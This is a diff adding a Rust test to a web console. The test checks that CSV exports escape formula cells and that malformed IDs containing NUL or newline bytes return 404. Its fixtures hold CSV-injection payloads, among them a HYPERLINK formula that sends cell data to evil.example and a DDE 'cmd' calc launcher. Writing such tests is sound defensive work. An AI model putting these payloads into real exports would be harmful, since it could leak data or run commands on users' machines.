@@ -351,3 +351,59 @@ async fn logout_needs_the_csrf_field_and_ends_the_session_for_good_and_a_new_tok
     console.stop().await;
     env.cleanup().await;
 }
+
+#[tokio::test]
+async fn the_export_writes_formula_cells_as_text_and_impossible_ids_get_a_status_not_a_dropped_connection(
+) {
+    let env = TestEnv::new(MockConfig::default()).await;
+    let formula = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")";
+    sqlx::query(
+        "INSERT INTO verification_results (job_id, batch_id, status, attempts, identity_digest, received_at, name_masked)
+         VALUES ($1, '@SUM(1+1)', 'invalid', 0, 'd', now(), '=*'), ('+cmd|'' /C calc''!A0', '@SUM(1+1)', 'invalid', 0, 'd', now(), '-*')",
+    )
+    .bind(formula)
+    .execute(env.store.pool())
+    .await
+    .expect("two hostile rows");
+    let console = Console::start(&env.config, None).await;
+    let http = client();
+    let export = http
+        .get(format!(
+            "{}/batches/%40SUM%281%2B1%29/export.csv",
+            console.base
+        ))
+        .send()
+        .await
+        .expect("the export")
+        .text()
+        .await
+        .expect("CSV");
+    let mut reader = csv::Reader::from_reader(export.as_bytes());
+    let mut cells = 0;
+    for record in reader.records() {
+        for cell in record.expect("valid CSV").iter() {
+            cells += 1;
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {export}"
+            );
+        }
+    }
+    assert_eq!(cells, 20, "two rows of ten cells: {export}");
+    assert!(
+        export.contains(&format!("'{}", formula.replace('"', "\"\""))),
+        "{export}"
+    );
+    for path in [
+        "/jobs/a%00b",
+        "/batches/a%00b",
+        "/batches/a%00b/export.csv",
+        "/jobs/a%0Ab",
+    ] {
+        let answer = http.get(format!("{}{path}", console.base)).send().await;
+        let answer = answer.unwrap_or_else(|e| panic!("{path}: no answer ({e})"));
+        assert_eq!(answer.status(), StatusCode::NOT_FOUND, "{path}");
+    }
+    console.stop().await;
+    env.cleanup().await;
+}
